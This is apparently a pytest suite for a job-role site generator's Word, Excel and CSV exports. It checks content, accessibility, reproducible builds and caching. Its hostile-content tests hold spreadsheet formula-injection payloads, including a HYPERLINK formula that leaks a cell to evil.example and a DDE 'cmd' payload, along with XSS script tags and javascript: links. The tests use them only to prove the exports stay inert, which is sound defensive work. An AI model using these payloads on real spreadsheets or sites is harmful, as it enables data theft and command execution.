"""Word and Excel exports: what they hold, that nothing in them is live, that the same content
gives the same bytes, that the cache makes only what changed, and that the site links to them
only when they are built."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import shutil
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from docx.oxml.ns import qn

from generator.cli import run
from generator.core.cache import Cache
from generator.core.clock import FIXED_DATE, source_date
from generator.model import Site
from generator.render.exports import (
    CATALOGUE_CSV,
    CATALOGUE_XLSX,
    jobs,
    profile_path,
    shortlisting_path,
    write_exports,
)
from generator.render.exports.catalogue import COLUMNS
from generator.render.exports.excel import csv_bytes, xlsx_bytes
from generator.render.exports.profile import profile_document
from generator.render.exports.richtext import inline, is_plain, paragraphs, plain, through_markdown
from generator.render.exports.safe import EXCEL_CELL_LIMIT, csv_text, xml_text
from generator.render.exports.shortlist import shortlisting_book
from generator.render.exports.word import docx_bytes
from generator.scoring import sheets
from generator.scoring.campaign import campaign
from tests.conftest import CONTENT, FIXTURES, RECRUITING, ROOT, UNSAFE, overlay, scored_content
from tests.support.forms import hand_site, scale
from tests.support.site import broken_links, load_site, local_hrefs

DATE = "2026-01-01T00:00:00Z"
EPOCH = "1767225600"  # 2026-01-01T00:00:00Z
ROLES = sorted(p.stem for p in (CONTENT / "roles").glob("*.yaml"))
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1,1)", "\tTabbed", "\rReturned", "<script>alert('x')</script>",
    "Control\x00chars\x01here\x0b\x1f and \ufffe", "Zoë, Łódź, 日本語 and 😀",
    "العربية والإنجليزية", "עברית ו-English",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def site() -> Site:
    return load_site(CONTENT)


@pytest.fixture(scope="module")
def scored(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """The shipped content, each organisation whose documents give no scale given one."""
    return load_site(scored_content(tmp_path_factory.mktemp("scored")))


def docx_text(data: bytes) -> str:
    """Every paragraph of a .docx (body and tables, in order), whitespace collapsed."""
    document = docx.Document(io.BytesIO(data))
    texts = ["".join(t.text or "" for t in p.iter(qn("w:t")))
             for p in document.element.body.iter(qn("w:p"))]
    return " ".join(" ".join(texts).split())


def squash(text: str) -> str:
    return " ".join(text.split())


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def cells(book: openpyxl.Workbook) -> Iterator[Any]:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


# --- text from the content ----------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "Plain words, with punctuation: £24,000 & more (really) <b>!", "Two  spaces\tand tab",
    "*emphasis*", "**bold** and _it_", "- a list", "1. numbered", "# heading", "`code`",
    "a [link](https://example.org)", "line one\nline two", "   indented", "a \\* b",
    "-5 degrees", "+ plus", "10.5 hours", "DA&SV &amp; &lt;b&gt;", "> quoted",
])
def test_plain_text_skips_markdown_only_when_markdown_would_change_nothing(text: str) -> None:
    if is_plain(text):
        assert paragraphs(text) == through_markdown(text) == (("", ((squash(text), "", ""),)),)
    else:
        assert paragraphs(text) == through_markdown(text)


def test_markdown_becomes_runs_lists_and_links() -> None:
    paras = paragraphs("Some **bold** and *italic* with a [link](https://example.org/a?b=1) "
                       "and `code`.\n\n- one\n- two\n    - nested\n\n1. first\n2. second")
    assert paras[0] == ("", (("Some ", "", ""), ("bold", "b", ""), (" and ", "", ""),
                             ("italic", "i", ""), (" with a ", "", ""),
                             ("link", "", "https://example.org/a?b=1"), (" and ", "", ""),
                             ("code", "c", ""), (".", "", "")))
    assert [p[0] for p in paras[1:]] == ["bullet:1", "bullet:1", "bullet:2", "cont:1", "cont:1"]
    assert paras[4][1][0] == ("1. ", "", "")


def test_unsafe_and_relative_links_keep_their_words_only() -> None:
    runs = inline("[bad](javascript:alert(1)) [page](../roles/x.md) [ok](mailto:hr@example.org)")
    assert [r for r in runs if r[2]] == [("ok", "", "mailto:hr@example.org")]
    assert plain("[bad](javascript:alert(1)) [page](../roles/x.md)") == "bad page"


def test_inline_fields_stay_on_one_line_as_typed() -> None:
    assert plain("1. Numbered criterion") == "1. Numbered criterion"
    assert plain("- dash first") == "- dash first"
    assert plain("# Not a heading") == "# Not a heading"
    assert plain("<script>alert(1)</script>") == "<script>alert(1)</script>"


def test_xml_and_csv_escaping() -> None:
    assert xml_text("a\x00b\x01c\x1f\td\ne\rf\ufffeg") == "abc\td\ne\rfg"
    for text in FORMULA_START:
        assert csv_text(text + "1") == "'" + text + "1"
    assert csv_text("Plain - with a dash") == "Plain - with a dash"


# --- the Word export ----------------------------------------------------------------------------

@pytest.mark.parametrize("role_id", ROLES)
def test_word_export_holds_every_line_of_the_profile(site: Site, role_id: str) -> None:
    role = site.roles[role_id]
    text = docx_text(docx_bytes(profile_document(site, role), DATE))
    expected = [role.title, role.organisation.name, *(role.locations), role.purpose or "",
                role.context or "", role.introduction or ""]
    for section in (role.accountabilities, role.key_activities, role.performance_measures):
        items = list(section.items) + [i for g in section.groups for i in g.items]
        while items:
            item = items.pop()
            expected.append(item.text)
            items += item.items
        expected += [g.heading or "" for g in section.groups]
    for crit in role.person_spec.criteria:
        expected += [crit.id, crit.text, crit.assessed_by_text, crit.guidance or ""]
    for req in role.competencies:
        for level in (req.level, req.entry_level, req.exceptional_level):
            expected += list(level.indicators) if level else []
    expected += [s.text for s in (*role.statements, *role.organisation.statements)]
    expected += [a.item.text for a in role.known_risks]
    for wanted in filter(None, expected):
        for para in paragraphs(wanted):
            line = squash("".join(run[0] for run in para[1]))
            assert line in text, f"{role_id}: missing {line[:80]!r}"


@pytest.mark.parametrize("role_id", ROLES)
def test_word_export_is_structured_for_screen_readers(site: Site, role_id: str) -> None:
    data = docx_bytes(profile_document(site, site.roles[role_id]), DATE)
    document = docx.Document(io.BytesIO(data))
    styles = [p.style.name for p in document.paragraphs]
    headings = [(p.style.name, p.text) for p in document.paragraphs
                if p.style.name.startswith("Heading")]
    assert headings[0] == ("Heading 1", site.roles[role_id].title)
    assert [name for name, _ in headings].count("Heading 1") == 1
    assert ("Heading 2", "Person specification") in headings
    assert {name for name, _ in headings} <= {"Heading 1", "Heading 2", "Heading 3", "Heading 4"}
    assert "List Bullet" in styles or "List Continue" in styles
    for number, table in enumerate(document.tables):
        first = table.rows[0]._tr
        assert first.trPr is not None and first.trPr.find(qn("w:tblHeader")) is not None
        assert table._tbl.tblPr.find(qn("w:tblCaption")) is not None, number
        assert all(run.bold for cell in table.rows[0].cells for p in cell.paragraphs
                   for run in p.runs)
    captions = [t._tbl.tblPr.find(qn("w:tblCaption")).get(qn("w:val")) for t in document.tables]
    assert "Summary" in captions and any(c.startswith("Person specification: ") for c in captions)
    props = document.core_properties
    assert props.title == f"{site.roles[role_id].title}: role profile"
    assert props.language == "en-GB"
    assert props.author == "" and props.last_modified_by == "" and props.comments == ""
    assert props.created.isoformat().startswith("2026-01-01T00:00:00")
    styles_xml = zipfile.ZipFile(io.BytesIO(data)).read("word/styles.xml").decode()
    assert 'w:val="en-GB"' in styles_xml and 'w:val="en-US"' not in styles_xml
    assert round(document.sections[0].page_width.mm) == 210  # A4


def test_person_specification_is_grouped_with_essential_or_desirable_and_how_assessed(
        site: Site) -> None:
    role = site.roles["recovery-navigator"]
    document = docx.Document(io.BytesIO(docx_bytes(profile_document(site, role), DATE)))
    rows = {}
    for table in document.tables:
        header = [c.text for c in table.rows[0].cells]
        if header[:4] == ["Id", "Criterion", "Essential or desirable", "How it is assessed"]:
            rows.update({r.cells[0].text: [c.text for c in r.cells] for r in table.rows[1:]})
    assert set(rows) == {c.id for c in role.person_spec.criteria}
    for crit in role.person_spec.criteria:
        assert rows[crit.id][2] == ("Essential" if crit.essential else "Desirable")
        assert rows[crit.id][3] == crit.assessed_by_text


# --- the shortlisting workbook ------------------------------------------------------------------

@pytest.mark.parametrize("role_id", ROLES)
def test_shortlisting_workbook_matches_the_shortlisting_form(scored: Site, role_id: str) -> None:
    role = scored.roles[role_id]
    settings = campaign(scored, role)
    sheet = sheets.shortlisting(role, settings.scale, settings.candidates)
    book = workbook(xlsx_bytes(shortlisting_book(scored, role), DATE))
    assert book.sheetnames == ["Scores", "Criteria", "Scoring scale", "How to use"]
    scores = book["Scores"]
    assert scores.freeze_panes == "B2"
    header = [c.value for c in scores[1]]
    assert header[0] == "Candidate"
    assert [h.split(" (")[0] for h in header[1:1 + len(sheet.rows)]] == \
        [r.label for r in sheet.rows]
    codes = [scores.cell(row=n, column=1).value for n in range(2, scores.max_row + 1)]
    assert tuple(codes) == sheets.candidate_codes(settings.candidates) == sheet.candidates
    rules = {str(dv.sqref): dv for dv in scores.data_validations.dataValidation}
    total_column = next(n for n, h in enumerate(header, 1) if h.startswith(
        ("Total score", "Weighted total")))
    for number, row in enumerate(sheet.rows, start=2):
        letter = openpyxl.utils.get_column_letter(number)
        rule = rules[f"{letter}2:{letter}{len(codes) + 1}"]
        if row.mode == sheets.SCORE:
            assert (rule.type, rule.operator) == ("whole", "between")
            assert (rule.formula1, rule.formula2) == (str(settings.scale.min),
                                                      str(settings.scale.max))
        else:
            assert (rule.type, rule.formula1) == ("list", '"Met,Not met"')
        assert rule.showErrorMessage
    for n in range(2, len(codes) + 2):
        total = scores.cell(row=n, column=total_column)
        # blank until every scored cell is filled in (tests/scoring/test_workbooks.py)
        assert total.data_type == "f" and total.value.startswith("=IF(COUNT(")
        assert f"B{n}" in total.value
    criteria = {r[0].value: [c.value for c in r] for r in book["Criteria"].iter_rows(min_row=2)}
    assert list(criteria) == [r.label for r in sheet.rows]
    for row in sheet.rows:
        assert criteria[row.label][1] == plain(row.text)
    points = [r[0].value for r in book["Scoring scale"].iter_rows(min_row=2)]
    assert points == [p.score for p in settings.scale.points]  # in the scale's own order


def test_weighted_and_met_only_scales_shape_the_totals() -> None:
    site = hand_site(scale(0, 3, weights=(1, 2, 3), desirable_only=True, scale_id="test-0-3"))
    role = site.roles["test-role"]
    book = workbook(xlsx_bytes(shortlisting_book(site, role), DATE))
    scores = book["Scores"]
    header = [c.value for c in scores[1]]
    # each criterion under its person specification heading ("Test" in the hand-made role)
    # (and the criterion's text on a second line: the printed sheet names the criterion)
    assert header[1:6] == ["A1 (Test: essential, met or not met)\nCriterion text A1",
                           "AI1 (Test: essential, met or not met)\nCriterion text AI1",
                           "D1 (Test: desirable, ×3)\nCriterion text D1",
                           "D2 (Test: desirable, ×2)\nCriterion text D2",
                           "Q 7.b (Test: desirable, ×1)\nCriterion text Q 7.b"]
    gate = scores.cell(row=2, column=header.index(
        "Meets all essential criteria? (Y or N), worked out") + 1)
    assert gate.value == '=IF(OR(B2="",C2=""),"",IF(AND(B2="Met",C2="Met"),"Y","N"))'
    total = scores.cell(row=2, column=next(n for n, h in enumerate(header, 1)
                                           if h.startswith("Weighted total")))
    # the scores entered so far, and beside it how many are still to enter
    assert total.value == '=IF(COUNT(D2,E2,F2)=0,"",D2*3+E2*2+F2)'
    assert header[total.column - 1] == "Weighted total (score × weight), 0 to 18 (so far)"
    assert scores.cell(row=2, column=total.column - 1).value == "=3-COUNT(D2,E2,F2)"
    rank = scores.cell(row=2, column=total.column + 1).value
    assert rank == '=IF(OR(J2="",I2<>0),"",1+COUNTIFS($J$2:$J$7,">"&J2,$I$2:$I$7,0))'
    rules = {str(dv.sqref): (dv.type, dv.formula1) for dv in scores.data_validations.dataValidation}
    assert rules["B2:B7"] == ("list", '"Met,Not met"')  # the paper sheet's ✓ and ✗
    assert rules["D2:D7"] == ("whole", "0")


# --- the catalogue ------------------------------------------------------------------------------

def test_catalogue_lists_every_role_in_excel_and_csv(site: Site, tmp_path: Path) -> None:
    stats = write_exports(site, tmp_path, created=DATE, cache=Cache("exports", tmp_path / "c"))
    assert len(stats.files) == 2 * len(ROLES) + 2
    book = workbook((tmp_path / CATALOGUE_XLSX).read_bytes())
    sheet = book["Roles"]
    assert [c.value for c in sheet[1]] == [c for c, _ in COLUMNS]
    assert sheet.freeze_panes == "C2" and sheet.auto_filter.ref
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    assert sorted(rows) == ROLES
    nav = {COLUMNS[n][0]: c.value for n, c in enumerate(rows["recovery-navigator"])}
    assert nav["Title"] == "Recovery Navigator" and nav["Organisation"] == "Second Step"
    assert nav["Page (path on the site)"] == "roles/recovery-navigator/"
    assert nav["Role profile (Word)"] == "roles/recovery-navigator/recovery-navigator.docx"
    contact = {COLUMNS[n][0]: c.value for n, c in
               enumerate(rows["supervised-contact-co-ordinator"])}
    assert contact["Grade"] == "Band 9" and "DBC-PG-0412" in contact["Open vacancies"]
    raw = (tmp_path / CATALOGUE_CSV).read_bytes()
    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert table[0] == [c for c, _ in COLUMNS]
    assert [r[0] for r in table[1:]] == [r[0].value for r in sheet.iter_rows(min_row=2)]


def test_catalogue_links_only_the_workbooks_that_are_written(site: Site, tmp_path: Path) -> None:
    # Assessed only at interview, the navigator's criteria give no shortlisting rows, so it
    # has no shortlisting workbook: the catalogue must not link one.
    role = site.roles["recovery-navigator"]
    interview = next(m for m in role.organisation.methods if m.id == "interview")
    criteria = tuple(dataclasses.replace(c, assessed_by=(interview,))
                     for c in role.person_spec.criteria)
    changed = dataclasses.replace(
        role, person_spec=dataclasses.replace(role.person_spec, criteria=criteria))
    edited = dataclasses.replace(site, roles={**site.roles, role.id: changed})
    write_exports(edited, tmp_path, created=DATE, cache=Cache("exports", tmp_path / "c"))
    column = [c for c, _ in COLUMNS].index("Shortlisting workbook (Excel)")
    sheet = workbook((tmp_path / CATALOGUE_XLSX).read_bytes())["Roles"]
    links = {r[0].value: r[column].value for r in sheet.iter_rows(min_row=2)}
    assert links["recovery-navigator"] is None
    assert not (tmp_path / shortlisting_path("recovery-navigator")).exists()
    linked = [link for link in links.values() if link]
    assert len(linked) == len(ROLES) - 1
    assert all((tmp_path / link).is_file() for link in linked), linked


# --- hostile content ----------------------------------------------------------------------------

def hostile_site(site: Site) -> Site:
    """The recovery navigator with hostile text in every kind of field the exports show."""
    role = site.roles["recovery-navigator"]
    long_text = "Very long text. " * 4000 + "THE END"
    org = dataclasses.replace(role.organisation, name=HOSTILE[0])
    criteria = tuple(
        dataclasses.replace(c, id=HOSTILE[n][:20] + "\x01" if n < 3 else c.id,
                            text=HOSTILE[n] if n < len(HOSTILE) else
                            long_text if n == len(HOSTILE) else c.text)
        for n, c in enumerate(role.person_spec.criteria))
    items = tuple(dataclasses.replace(item, text=HOSTILE[n % len(HOSTILE)])
                  for n, item in enumerate(role.accountabilities.items))
    hostile = dataclasses.replace(
        role, title=HOSTILE[1], organisation=org, grade=HOSTILE[2], hours=HOSTILE[3],
        locations=(HOSTILE[9], HOSTILE[10]), purpose=HOSTILE[6] + "\n\n" + HOSTILE[7]
        + " [safe](https://example.org/ok) [js](javascript:alert(1))",
        context=long_text,
        person_spec=dataclasses.replace(role.person_spec, criteria=criteria),
        accountabilities=dataclasses.replace(role.accountabilities, items=items))
    return dataclasses.replace(site, roles={**site.roles, role.id: hostile})


def test_hostile_text_stays_text_in_word(site: Site) -> None:
    bad = hostile_site(site)
    data = docx_bytes(profile_document(bad, bad.roles["recovery-navigator"]), DATE)
    text = docx_text(data)
    for hostile in HOSTILE:
        assert squash(xml_text(hostile)) in text, hostile
    assert "Controlcharshere and" in text and "\x00" not in text
    assert text.count("Very long text.") >= 2 * 4000 and "THE END" in text
    package = zipfile.ZipFile(io.BytesIO(data))
    body = package.read("word/document.xml").decode()
    assert "<script" not in body and "&lt;script&gt;" in body
    rels = package.read("word/_rels/document.xml.rels").decode()
    assert "https://example.org/ok" in rels and "javascript" not in rels


def test_hostile_text_is_never_a_formula_in_excel_or_csv(site: Site, tmp_path: Path) -> None:
    bad = hostile_site(site)
    write_exports(bad, tmp_path, created=DATE, cache=Cache("exports", tmp_path / "c"))
    # Our formulas: cell references, numbers, operators, upper-case functions and the quoted
    # strings "", "Y", "N", "Met", ">" and "<>N" only; content text (lower case, spaces)
    # never.
    quoted = re.compile(r'""|"Y"|"N"|"Met"|">"|"<>N"')
    ours = re.compile(r"=[A-Z0-9$(),:+*<>=&-]+")  # "-": the count of scores still to enter
    seen: set[str] = set()
    for path in (shortlisting_path("recovery-navigator"), CATALOGUE_XLSX):
        data = (tmp_path / path).read_bytes()
        for cell in cells(workbook(data)):
            if cell.data_type == "f":
                assert ours.fullmatch(quoted.sub("", cell.value)), cell.value
            elif isinstance(cell.value, str):
                seen.add(cell.value)
                assert len(cell.value) <= EXCEL_CELL_LIMIT
        for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
            xml = zipfile.ZipFile(io.BytesIO(data)).read(name).decode("utf-8", "replace")
            assert "HYPERLINK" not in "".join(re.findall(r"<f>(.*?)</f>", xml))
    for hostile in HOSTILE[:4] + HOSTILE[8:]:
        assert xml_text(hostile) in seen or any(xml_text(hostile) in s for s in seen), hostile
    assert any(s.endswith(" […]") for s in seen)  # the long criterion, cut to fit a cell
    table = list(csv.reader(io.StringIO((tmp_path / CATALOGUE_CSV).read_text("utf-8-sig"),
                                        newline="")))
    for row in table:
        for value in row:
            assert not value.startswith(FORMULA_START), value
    nav = next(r for r in table if r[0] == "recovery-navigator")
    assert nav[1] == "'" + HOSTILE[1] and nav[2] == "'" + HOSTILE[0]
    assert HOSTILE[9] in nav[COLUMNS.index(("Locations", 24))]
    assert csv_bytes(["a"], [["=1"], [None], [3]]).decode("utf-8-sig") == 'a\r\n\'=1\r\n""\r\n3\r\n'


def test_unsafe_fixture_content_exports_without_anything_live(tmp_path: Path) -> None:
    content = overlay(FIXTURES / "base", UNSAFE / "content", tmp_path)
    unsafe = load_site(content)
    write_exports(unsafe, tmp_path / "docs", created=DATE, cache=Cache("exports", tmp_path / "c"))
    data = (tmp_path / "docs" / profile_path("support-worker")).read_bytes()
    text = docx_text(data)
    assert "<script>alert('xss-title')</script>" in text and "{{ 7*7 }}" in text
    package = zipfile.ZipFile(io.BytesIO(data))
    assert "javascript" not in package.read("word/_rels/document.xml.rels").decode().lower()
    assert "<script" not in package.read("word/document.xml").decode()


# --- the same bytes every time, and the cache ---------------------------------------------------

def tree(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_two_builds_give_the_same_bytes(site: Site, tmp_path: Path,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    for name in ("one", "two"):
        write_exports(site, tmp_path / name, cache=Cache("exports", tmp_path / f"cache-{name}"))
    one, two = tree(tmp_path / "one"), tree(tmp_path / "two")
    assert one == two and len(one) == 2 * len(ROLES) + 2
    for path, data in one.items():
        if path.endswith((".docx", ".xlsx")):
            infos = zipfile.ZipFile(io.BytesIO(data)).infolist()
            assert infos[0].filename == "[Content_Types].xml"
            assert [i.filename for i in infos[1:]] == sorted(i.filename for i in infos[1:])
            assert {i.date_time for i in infos} == {(2026, 1, 1, 0, 0, 0)}, path
    props = workbook(one[CATALOGUE_XLSX]).properties
    assert props.created.isoformat() == props.modified.isoformat() == "2026-01-01T00:00:00"
    assert props.creator in ("", None) and props.language == "en-GB"


def test_without_source_date_epoch_the_date_is_fixed(site: Site, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    assert source_date() == FIXED_DATE
    write_exports(site, tmp_path, ["recovery-navigator"], cache=Cache("exports", tmp_path / "c"))
    data = (tmp_path / profile_path("recovery-navigator")).read_bytes()
    infos = zipfile.ZipFile(io.BytesIO(data)).infolist()
    assert {i.date_time for i in infos} == {(2000, 1, 1, 0, 0, 0)}
    assert docx.Document(io.BytesIO(data)).core_properties.modified.year == 2000


def test_after_one_edit_only_that_role_and_the_catalogue_are_made_again(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    cache = Cache("exports", tmp_path / "cache")
    made: list[str] = []
    real_render = jobs.render

    def recording(job: tuple[str, Any, str]) -> bytes:
        made.append(job[1].get("title", "csv"))
        return real_render(job)

    monkeypatch.setattr(jobs, "render", recording)
    first = write_exports(load_site(content), tmp_path / "one", created=DATE, cache=cache)
    assert (first.made, first.reused) == (2 * len(ROLES) + 2, 0)
    again = write_exports(load_site(content), tmp_path / "two", created=DATE, cache=cache)
    assert (again.made, again.reused) == (0, 2 * len(ROLES) + 2)
    assert str(again) == f"Exports: 0 made, {2 * len(ROLES) + 2} reused from the cache."
    assert tree(tmp_path / "one") == tree(tmp_path / "two")

    role = content / "roles" / "recovery-navigator.yaml"
    role.write_text(role.read_text(encoding="utf-8").replace(
        "title: Recovery Navigator", "title: Recovery Navigator (Bristol)", 1), encoding="utf-8")
    made.clear()
    edited = write_exports(load_site(content), tmp_path / "three", created=DATE, cache=cache)
    assert (edited.made, edited.reused) == (4, 2 * len(ROLES) - 2)
    assert sorted(made) == sorted(["Recovery Navigator (Bristol): role profile",
                                   "Recovery Navigator (Bristol): shortlisting", "Roles", "csv"])
    three = tree(tmp_path / "three")
    assert "Recovery Navigator (Bristol)" in docx_text(three[profile_path("recovery-navigator")])
    one = tree(tmp_path / "one")
    for path in three:
        if "recovery-navigator" not in path and not path.startswith("roles/roles."):
            assert three[path] == one[path], path


def test_a_new_exporter_makes_everything_again(site: Site, tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    cache = Cache("exports", tmp_path / "cache")
    write_exports(site, tmp_path / "one", ["recovery-navigator"], created=DATE, cache=cache)
    monkeypatch.setattr(jobs, "exporter_version", lambda: "python-docx 99")
    stats = write_exports(site, tmp_path / "two", ["recovery-navigator"], created=DATE,
                          cache=cache)
    assert (stats.made, stats.reused) == (4, 0)


def test_many_misses_are_made_on_every_core_with_the_same_bytes(
        site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(jobs, "POOL_THRESHOLD", 2)
    monkeypatch.setattr(jobs, "workers", lambda: 2)
    pooled = write_exports(site, tmp_path / "pool", created=DATE,
                           cache=Cache("exports", tmp_path / "c1"))
    monkeypatch.setattr(jobs, "workers", lambda: 1)
    serial = write_exports(site, tmp_path / "serial", created=DATE,
                           cache=Cache("exports", tmp_path / "c2"))
    assert pooled.made == serial.made == 2 * len(ROLES) + 2
    assert tree(tmp_path / "pool") == tree(tmp_path / "serial")


# --- the built site -----------------------------------------------------------------------------

def role_pages(site_dir: Path) -> list[Path]:
    return [site_dir / "roles" / role_id / "index.html" for role_id in ROLES] + \
        [site_dir / "roles" / "index.html"]


@pytest.fixture
def in_root(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)


@pytest.mark.usefixtures("in_root")
def test_no_pdf_build_has_no_links_to_files_it_did_not_make(tmp_path: Path) -> None:
    site_dir = tmp_path / "site"
    assert run(["build", "--site-dir", str(site_dir), "--no-pdf"]) == 0
    assert broken_links(site_dir, role_pages(site_dir)) == []
    hrefs = [h for page in role_pages(site_dir) for h in local_hrefs(page)]
    assert any(h.endswith(".html") and "forms/" in h for h in hrefs)
    assert not [h for h in hrefs if h.endswith((".pdf", ".docx", ".xlsx", ".csv"))]
    assert not [p for p in site_dir.rglob("*") if p.suffix in (".pdf", ".docx", ".xlsx", ".csv")]
    nav = (site_dir / "roles" / "recovery-navigator" / "index.html").read_text("utf-8")
    assert "Downloads" not in nav and "the PDF is the same form" not in nav


class _Chunks(HTMLParser):
    """The text of each innermost block of a page's article, by the section it is in."""

    BLOCKS = ("p", "li", "td", "th", "dt", "dd", "h1", "h2", "h3", "h4", "h5", "h6")

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 0          # inside <article> when > 0
        self.open: list[list[str]] = []
        self.skip = 0           # inside an admonition or a headerlink
        self.section = ""
        self.chunks: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        classes = (dict(attrs).get("class") or "").split()
        if tag == "br":
            self.handle_data(" ")
        if tag in ("br", "img", "hr", "input", "wbr"):
            return
        if tag == "article":
            self.depth += 1
        elif self.depth and ("admonition" in classes or "headerlink" in classes or self.skip):
            self.skip += 1
        if self.depth and tag in self.BLOCKS:
            if self.open:
                self._emit()
            self.open.append([tag])

    def handle_endtag(self, tag: str) -> None:
        if tag in ("br", "img", "hr", "input", "wbr"):
            return
        if tag == "article":
            self.depth -= 1
        elif self.skip:
            self.skip -= 1
        if self.depth and tag in self.BLOCKS and self.open:
            self._emit()
            self.open.pop()

    def handle_data(self, data: str) -> None:
        if self.depth and self.open and not self.skip:
            self.open[-1].append(data)

    def _emit(self) -> None:
        tag, *parts = self.open[-1]
        text = squash("".join(parts))
        self.open[-1] = [tag]
        if tag == "h2":
            self.section = text
        if text:
            self.chunks.append((self.section, text))


def placeholder_pdfs(forms: list[Path]) -> None:
    """Stands in for WeasyPrint: a real build of every PDF is test_build's."""
    for page in forms:
        page.with_suffix(".pdf").write_bytes(b"%PDF-1.7 placeholder")


@pytest.fixture(scope="module")
def full_build(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """`roleprint build` with its binary downloads, run from a folder of its own so that its
    staging tree is kept there too."""
    where = tmp_path_factory.mktemp("full")
    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.chdir(where)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    monkeypatch.setattr("generator.build.make_pdfs", placeholder_pdfs)
    try:
        assert run(["build", "--content", str(CONTENT), "--site-dir", str(where / "site"),
                    "--config", str(ROOT / "mkdocs.yml")]) == 0
        yield where
    finally:
        monkeypatch.undo()


def test_full_build_holds_the_exports_and_links_to_them(full_build: Path) -> None:
    site_dir, staging = full_build / "site", full_build / ".staging" / "docs"
    for role_id in ROLES:
        for path in (profile_path(role_id), shortlisting_path(role_id)):
            assert (site_dir / path).read_bytes() == (staging / path).read_bytes()
        page = (site_dir / "roles" / role_id / "index.html").read_text("utf-8")
        assert f'href="{role_id}.docx">Role profile and person specification (Word, .docx)' in page
        # The panel's workbook and sheets are on the panel's page, which a role has while it
        # recruits; the role's page offers candidates their forms only.
        assert "-shortlisting.xlsx" not in page and 'href="forms/shortlisting.pdf"' not in page
        assert ('href="forms/application-form.pdf"' in page) == (role_id in RECRUITING)
        panel = site_dir / "roles" / role_id / "panel" / "index.html"
        assert panel.is_file() == (role_id in RECRUITING)
        if role_id in RECRUITING:
            panel_page = panel.read_text("utf-8")
            assert (f'href="../{role_id}-shortlisting.xlsx">Shortlisting workbook (Excel, .xlsx)'
                    in panel_page)
            assert 'href="../forms/shortlisting.pdf"' in panel_page
    for path in (CATALOGUE_XLSX, CATALOGUE_CSV):
        assert (site_dir / path).read_bytes() == (staging / path).read_bytes()
    index = (site_dir / "roles" / "index.html").read_text("utf-8")
    assert 'href="roles.xlsx">Role catalogue (Excel, .xlsx)' in index
    assert 'href="roles.csv">Role catalogue (CSV, .csv)' in index
    panels = sorted(site_dir.glob("roles/*/panel/index.html"))
    assert len(panels) == len(RECRUITING)
    vacancies = sorted(site_dir.glob("vacancies/*/index.html"))
    assert broken_links(site_dir, [*role_pages(site_dir), *panels, *vacancies]) == []


LEFT_OUT = ("Forms for candidates", "Downloads", "Tags")


@pytest.mark.parametrize("role_id", ROLES)
def test_word_export_loses_no_line_of_the_role_page(full_build: Path, role_id: str) -> None:
    page = full_build / "site" / "roles" / role_id / "index.html"
    chunks = _Chunks()
    chunks.feed(page.read_text("utf-8"))
    text = docx_text((full_build / "site" / profile_path(role_id)).read_bytes())
    shown = [chunk for section, chunk in chunks.chunks if section not in LEFT_OUT]
    assert len(shown) > 30
    missing = [chunk for chunk in shown if chunk not in text]
    assert missing == []
